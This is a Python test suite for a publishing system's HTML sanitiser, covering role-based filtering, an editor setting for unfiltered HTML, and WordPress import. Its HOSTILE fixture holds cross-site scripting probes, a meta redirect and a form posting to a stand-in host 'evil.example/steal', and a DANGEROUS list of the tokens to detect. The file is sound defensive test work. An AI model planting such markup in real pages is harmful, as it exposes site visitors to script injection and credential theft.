"""Staff HTML is filtered by role (docs/html-policy.md): the desk's saves and previews, the
unfiltered-HTML setting for editors, and a WordPress import counting what it removed."""

import html
import os
import re
import unittest

import harness
import wxr
from test_desk import PASSWORD, add_user
import test_editor

HOSTILE = (
    "Opening paragraph.\n\n"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n'
    "<script>alert(1)</script>\n\n"
    '<form action="https://evil.example/steal"><input name="q"><button formaction="https://evil.example/x">Go</button></form>\n\n'
    '<p style="position:fixed" onclick="alert(2)">Styled</p>\n\n'
    "[click](javascript:alert(3)) and <a href=\"&#106;avascript:alert(4)\">this</a>\n\n"
    '<iframe src="https://evil.example/frame"></iframe>\n\n'
    '<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315"></iframe>\n')

DANGEROUS = [b"<meta", b"<script", b"<form", b"<input", b"<button", b"formaction", b"style=",
             b"onclick", b"javascript:", b"evil.example"]


def body_of(page):
    """The article body of a public page or the desk's preview."""
    found = re.search(rb'<div class="article-body">(.*?)</div>', page, re.S)  # bodies here have no div
    assert found, page[:500]
    return found.group(1)


class HtmlFilter(unittest.TestCase):
    signed_in = test_editor.Workflow.signed_in
    create = test_editor.Workflow.create
    act = test_editor.Workflow.act

    @classmethod
    def setUpClass(cls):
        cls.server = harness.Server(env={"BROADSHEET_EMBED_HOSTS": "www.youtube-nocookie.com"})
        for email, role in [("editor@example.org", "editor"), ("writer@example.org", "contributor"),
                            ("author@example.org", "author"), ("admin@example.org", "administrator")]:
            done = add_user(cls.server, email, role, PASSWORD, role.capitalize() + " Person")
            assert done.returncode == 0, done.stderr
        cls.server.start()

    @classmethod
    def tearDownClass(cls):
        cls.server.close()

    def setUp(self):
        self.server.set_desk_setting("unfiltered_html", "0")

    def assertFiltered(self, html, where):
        for text in DANGEROUS:
            self.assertNotIn(text, html, f"{where}: {text!r} survived")

    def test_contributor_draft_is_filtered_in_preview_and_when_published(self):
        writer = self.signed_in("writer@example.org")
        status, headers, _, _ = self.create(writer, title="A Hostile Draft", body=HOSTILE)
        self.assertEqual(status, 303)
        post = headers["Location"].split("?")[0]
        # The full preview, in the editor page's sandboxed frame (its document in srcdoc).
        status, _, page, _ = self.act(writer, post, "preview", body=HOSTILE)
        self.assertEqual(status, 200)
        frame = re.search(r'<iframe class="editor-preview-frame"[^>]*srcdoc="([^"]*)"', page)
        preview = body_of(html.unescape(frame.group(1)).encode())
        self.assertFiltered(preview, "desk preview")
        self.assertIn(b"Opening paragraph.", preview)
        # The live preview.
        status, _, fragment, _ = writer.request(
            "POST", "/admin/preview", {"csrf": html.unescape(re.search(
                r'data-token="([^"]+)"', writer.request("GET", post)[2]).group(1)), "body": HOSTILE})
        self.assertEqual(status, 200)
        self.assertFiltered(body_of(fragment.encode()), "live preview")
        # An editor publishes it (even with the setting on: the contributor's HTML stays filtered).
        self.server.set_desk_setting("unfiltered_html", "1")
        editor = self.signed_in("editor@example.org")
        status, _, page, _ = editor.request("GET", post)
        self.assertIn("HTML in this body is filtered", page)
        self.assertEqual(self.act(editor, post, "publish", body=HOSTILE)[0], 303)
        status, headers, page = self.server.get("/a-hostile-draft/")
        self.assertEqual(status, 200)
        self.assertFiltered(body_of(page), "published article")
        self.assertIn(b"Opening paragraph.", page)
        self.assertIn(b"<p>Styled</p>", page)
        self.assertIn(b'<iframe src="https://www.youtube-nocookie.com/embed/abc"', page)
        self.assertIn(b'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"', page)
        self.assertIn("frame-src 'self' https://www.youtube-nocookie.com",
                      headers["content-security-policy"])

    def test_the_setting_lets_editors_post_unfiltered_html_in_their_own_posts(self):
        editor = self.signed_in("editor@example.org")
        raw = '<p style="color: red" data-widget="x">Raw</p>\n'
        status, headers, _, _ = self.create(editor, title="Editor Raw Off", body=raw)
        self.assertEqual(status, 303)
        self.assertEqual(self.act(editor, headers["Location"].split("?")[0], "publish", body=raw)[0], 303)
        self.assertIn(b"<p>Raw</p>", self.server.get("/editor-raw-off/")[2])

        self.server.set_desk_setting("unfiltered_html", "1")
        status, headers, _, _ = self.create(editor, title="Editor Raw On", body=raw)
        post = headers["Location"].split("?")[0]
        self.assertIn("kept as you write it", editor.request("GET", post)[2])
        self.assertEqual(self.act(editor, post, "publish", body=raw)[0], 303)
        self.assertIn(b'<p style="color: red" data-widget="x">Raw</p>', self.server.get("/editor-raw-on/")[2])

        # An author's own post stays filtered with the setting on.
        author = self.signed_in("author@example.org")
        status, headers, _, _ = self.create(author, title="Author Raw", body=raw)
        self.assertEqual(self.act(author, headers["Location"].split("?")[0], "publish", body=raw)[0], 303)
        self.assertIn(b"<p>Raw</p>", self.server.get("/author-raw/")[2])

    def test_settings_page_shows_and_saves_the_setting(self):
        editor = self.signed_in("editor@example.org")
        # Editors cannot change it; administrators see it, off by default.
        self.assertEqual(editor.request("GET", "/admin/settings")[0], 403)
        admin = self.signed_in("admin@example.org")
        status, _, page, _ = admin.request("GET", "/admin/settings")
        self.assertEqual(status, 200)
        box = re.search(r'<input id="unfiltered_html" name="unfiltered_html"[^>]*>', page)
        self.assertIsNotNone(box)
        self.assertNotIn("checked", box.group(0))
        self.server.set_desk_setting("unfiltered_html", "1")
        page = admin.request("GET", "/admin/settings")[2]
        self.assertIn("checked", re.search(r'<input id="unfiltered_html"[^>]*>', page).group(0))


class WordPressImportFilter(unittest.TestCase):
    def test_import_removes_hostile_markup_and_counts_it(self):
        server = harness.Server()
        try:
            item = wxr.post_item(1).replace(
                "<content:encoded><![CDATA[",
                "<content:encoded><![CDATA[<script>alert(1)</script>"
                '<p onclick="alert(2)" style="color:red">Imported</p>'
                '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
                '<a href="javascript:alert(3)">link</a>', 1)
            path = os.path.join(server.dir, "hostile.xml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(wxr.HEAD + wxr.channel_terms() + item + wxr.TAIL)
            done = harness.run("import", "wordpress", path, "--site", server.site)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
            line = re.search(r"^filtered: +(.*) removed from bodies", done.stdout, re.M)
            self.assertIsNotNone(line, done.stdout)
            self.assertIn("2 elements", line.group(1))
            self.assertIn("2 attributes", line.group(1))
            self.assertIn("1 address", line.group(1))
            server.start()
            status, _, page = server.get("/generated-analysis-1/")
            if status == 404:
                status, _, page = server.get("/2019/02/02/generated-analysis-1/")
            self.assertEqual(status, 200)
            body = body_of(page)
            self.assertIn(b"Imported", body)
            for text in [b"<script", b"onclick", b"style=", b"<meta", b"javascript:"]:
                self.assertNotIn(text, body)
        finally:
            server.close()


if __name__ == "__main__":
    unittest.main()
